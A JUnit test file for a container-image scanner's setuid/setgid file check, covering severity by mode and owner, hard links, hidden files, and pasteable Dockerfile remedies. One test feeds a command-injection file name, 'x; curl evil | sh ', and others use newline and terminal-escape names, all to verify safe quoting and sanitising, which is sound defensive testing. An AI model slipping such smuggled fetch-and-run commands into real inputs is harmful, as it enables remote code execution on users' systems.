package dev.imageprovenance.scanner.check;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.imageprovenance.scanner.finding.Evidence.FileEvidence;
import dev.imageprovenance.scanner.finding.Finding;
import dev.imageprovenance.scanner.finding.LayerLocation;
import dev.imageprovenance.scanner.finding.Remedy;
import dev.imageprovenance.scanner.layer.FileCapabilities;
import dev.imageprovenance.scanner.layer.FileTree;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class SetuidFilesCheckTest {
  private static CheckOutcome of(FileTree tree) {
    return new SetuidFilesCheck(false).check(new TestFacts().tree(tree).build());
  }

  private static Finding only(FileTree tree) {
    List<Finding> findings = of(tree).findings();
    assertEquals(1, findings.size());
    return findings.get(0);
  }

  @ParameterizedTest(name = "{0} {1}:{2}")
  @CsvSource({
    "04755,0,0,ROOT_OWNED medium",
    "02755,0,42,ROOT_OWNED medium",
    "06755,0,0,ROOT_OWNED medium",
    "04711,0,0,ROOT_OWNED medium",
    "04010,0,0,ROOT_OWNED medium",
    "04755,1000,1000,NON_ROOT_OWNER low",
    "02755,1000,0,NON_ROOT_OWNER low",
    "04757,0,0,WRITABLE high",
    "04775,0,0,WRITABLE high",
    "04775,1000,1000,WRITABLE high",
    "04644,0,0,NOT_EXECUTABLE info",
    "02745,0,0,NOT_EXECUTABLE info",
    "04666,0,0,NOT_EXECUTABLE info"
  })
  void modeAndOwnerDecideTheSeverity(String mode, long uid, long gid, String expected) {
    Finding finding =
        only(FakeFileTree.empty().file("usr/bin/tool", Integer.parseInt(mode, 8), uid, gid));

    assertEquals(expected, finding.code() + " " + finding.severity().label());
  }

  @ParameterizedTest
  @CsvSource({"tmp", "tmp/deep/below", "''"})
  void placeThatEverybodyMayWriteToIsHigh(String directory) {
    FakeFileTree tree =
        FakeFileTree.empty()
            .directory("", directory.isEmpty() ? 0777 : 0755)
            .directory("tmp", 01777)
            .directory("tmp/deep", 0755)
            .directory("tmp/deep/below", 0755)
            .file((directory.isEmpty() ? "" : directory + "/") + "tool", 04755, 0, 0);

    assertEquals("WORLD_WRITABLE_PLACE", only(tree).code());
  }

  @Test
  void hardLinkInAnOpenDirectoryCounts() {
    FakeFileTree tree =
        FakeFileTree.empty().directory("tmp", 01777).hardLinks(04755, "bin/su", "tmp/su");

    assertEquals("WORLD_WRITABLE_PLACE", only(tree).code());
  }

  @Test
  void hardLinksAreOneFinding() {
    FileEvidence evidence =
        only(FakeFileTree.empty().hardLinks(04755, "bin/a", "bin/b"))
            .evidence(FileEvidence.class)
            .orElseThrow();

    assertEquals(List.of("/bin/b"), evidence.otherPaths());
  }

  @Test
  void hardLinksAreToldUnderTheNameThatTheContentWasStoredUnder() {
    assertEquals(
        "/usr/bin/tool",
        only(FakeFileTree.empty().hardLinks(04755, "usr/bin/tool", "usr/bin/other")).subject());
  }

  @Test
  void scriptIsInfo() {
    assertEquals("SCRIPT", only(FakeFileTree.empty().script("bin/run", 04755)).code());
  }

  @Test
  void directoriesAndLinksAreNoFindings() {
    FakeFileTree tree = FakeFileTree.empty().directory("var/local", 02775).link("bin", "usr/bin");

    assertEquals(List.of(), of(tree).findings());
  }

  @Test
  void plainFilesAreNoFindings() {
    assertEquals(List.of(), of(FakeFileTree.empty().file("bin/ls", 01755, 0, 0)).findings());
  }

  @Test
  void hiddenFilesAreLeftOutByDefault() {
    assertEquals(List.of(), of(FakeFileTree.empty().hiddenFile("bin/su", 04755)).findings());
  }

  @Test
  void hiddenFilesAreInfoWhenAskedFor() {
    Finding finding =
        new SetuidFilesCheck(true)
            .check(new TestFacts().tree(FakeFileTree.empty().hiddenFile("bin/su", 04757)).build())
            .findings()
            .get(0);

    assertEquals("HIDDEN info", finding.code() + " " + finding.severity().label());
  }

  @Test
  void evidenceNamesOwnerAndGroup() {
    FakeFileTree tree =
        FakeFileTree.empty()
            .passwd("root:x:0:0\n")
            .group("shadow:x:42:\n")
            .file("usr/bin/chage", 02755, 0, 42);
    FileEvidence evidence = only(tree).evidence(FileEvidence.class).orElseThrow();

    assertEquals(
        new FileEvidence(
            "/usr/bin/chage",
            "file",
            02755,
            0,
            Optional.of("root"),
            42,
            Optional.of("shadow"),
            7,
            Optional.of("sha256:0000000000000001000000000000000200000000000000030000000000000004"),
            List.of(),
            false),
        evidence);
  }

  @Test
  void locationHasLayerAndInstruction() {
    assertEquals(
        Optional.of(
            new LayerLocation(2, TestFacts.stored(2).toString(), Optional.of("RUN step 2"))),
        only(FakeFileTree.empty().inLayer(2).file("bin/su", 04755, 0, 0)).location());
  }

  @Test
  void remedyCanBePasted() {
    assertEquals(
        "RUN chmod a-s /bin/su", dockerfile(FakeFileTree.empty().file("bin/su", 04755, 0, 0)));
  }

  @Test
  void nameThatIsAShellCommandIsQuotedInTheRemedy() {
    assertEquals(
        "RUN chmod a-s '/x; curl evil | sh '\\'''",
        dockerfile(FakeFileTree.empty().file("x; curl evil | sh '", 04755, 0, 0)));
  }

  @Test
  void nameThatCannotBePastedIsInNoInstruction() {
    Remedy remedy = remedy(FakeFileTree.empty().file("x\nRUN rm", 04755, 0, 0));
    assertEquals(Optional.empty(), remedy.dockerfile());
  }

  @Test
  void nameThatCannotBePastedIsAcceptedAsReportsPrintIt() {
    Remedy remedy = remedy(FakeFileTree.empty().file("x\ny", 04755, 0, 0));
    assertEquals(List.of("--allow-setuid '/x\\u000ay'"), remedy.accept());
  }

  @Test
  void remedyNamesEveryHardLinkBecauseOverlayChangesOneNameOnly() {
    assertEquals(
        "RUN chmod a-s /bin/a /bin/b",
        dockerfile(FakeFileTree.empty().hardLinks(04755, "bin/a", "bin/b")));
  }

  @Test
  void everyHardLinkMustBeAccepted() {
    assertEquals(
        List.of("--allow-setuid /bin/a", "--allow-setuid /bin/b"),
        remedy(FakeFileTree.empty().hardLinks(04755, "bin/a", "bin/b")).accept());
  }

  @Test
  void hiddenFileHasNoInstructionBecauseALaterLayerCannotReachIt() {
    CheckOutcome outcome =
        new SetuidFilesCheck(true)
            .check(new TestFacts().tree(FakeFileTree.empty().hiddenFile("bin/su", 04755)).build());
    assertEquals(Optional.empty(), outcome.findings().get(0).remedy().orElseThrow().dockerfile());
  }

  @Test
  void ofManyHardLinksAFewAreToldAndTheOthersCounted() {
    FakeFileTree tree =
        FakeFileTree.empty().hardLinks(04755, "bin/a", "bin/b", "bin/c", "bin/d", "bin/e");
    assertTrue(
        only(tree).message().endsWith("; 4 further hard links: /bin/b, /bin/c, /bin/d and 1 more"));
  }

  @Test
  void controlCharactersOfANameDoNotReachTheMessage() {
    assertEquals(
        -1, only(FakeFileTree.empty().file("x\u001b[2J", 04755, 0, 0)).message().indexOf('\u001b'));
  }

  @Test
  void capabilitiesBesideSetuidAreMentioned() {
    FakeFileTree tree =
        FakeFileTree.empty()
            .capable(
                "bin/ping", 04755, new FileCapabilities(2, true, 1 << 13, 0, Optional.empty()));

    assertTrue(only(tree).message().contains("it has file capabilities as well"));
  }

  @Test
  void twoTreesThatAgreeGiveEachFindingOnce() {
    CheckOutcome outcome =
        new SetuidFilesCheck(false)
            .check(
                new TestFacts()
                    .trees(
                        FakeFileTree.empty().file("bin/su", 04755, 0, 0),
                        new FakeFileTree(FileTree.Engine.IN_PLACE).file("bin/su", 04755, 0, 0))
                    .build());

    assertEquals(1, outcome.findings().size());
  }

  @Test
  void fileOfOneTreeOnlySaysOnWhichEngines() {
    CheckOutcome outcome =
        new SetuidFilesCheck(false)
            .check(
                new TestFacts()
                    .trees(
                        FakeFileTree.empty().file("bin/su", 04755, 0, 0),
                        new FakeFileTree(FileTree.Engine.IN_PLACE))
                    .build());

    assertTrue(outcome.findings().get(0).message().endsWith("(on overlay engines)"));
  }

  @Test
  void unknownTreeIsUnknown() {
    CheckOutcome outcome =
        new SetuidFilesCheck(false)
            .check(new TestFacts().unknownTree("layer 1 is foreign").build());

    assertEquals(Optional.of("layer 1 is foreign"), outcome.unknown());
  }

  @Test
  void summaryCountsFilesAndLayers() {
    FakeFileTree tree =
        FakeFileTree.empty().file("bin/su", 04755, 0, 0).file("bin/mount", 04755, 0, 0);

    assertEquals("2 setuid or setgid files, all from layer 1", of(tree).summary());
  }

  @Test
  void summaryOfNothingSaysSo() {
    assertEquals("no setuid or setgid files", of(FakeFileTree.empty()).summary());
  }

  @Test
  void aHundredThousandLinksOfOneFileAreJudgedInTime() {
    String[] paths = new String[100_000];
    for (int i = 0; i < paths.length; i++) {
      paths[i] = "z" + i;
    }
    FakeFileTree tree = FakeFileTree.empty().hardLinks(04755, paths);
    CheckOutcome outcome =
        assertTimeoutPreemptively(
            Duration.ofSeconds(20),
            () -> new SetuidFilesCheck(false).check(new TestFacts().tree(tree).build()));
    assertEquals(1, outcome.findings().size());
  }

  @Test
  void aHundredThousandLinksAreNoCommandThatAShellTakes() {
    String[] paths = new String[100_000];
    for (int i = 0; i < paths.length; i++) {
      paths[i] = "z" + i;
    }
    Remedy remedy = remedy(FakeFileTree.empty().hardLinks(04755, paths));
    assertEquals(Remedy.of(remedy.text()).withJib(remedy.jib().orElseThrow()), remedy);
  }

  private Remedy remedy(FakeFileTree tree) {
    return only(tree).remedy().orElseThrow();
  }

  private String dockerfile(FakeFileTree tree) {
    return remedy(tree).dockerfile().orElseThrow().toString();
  }
}
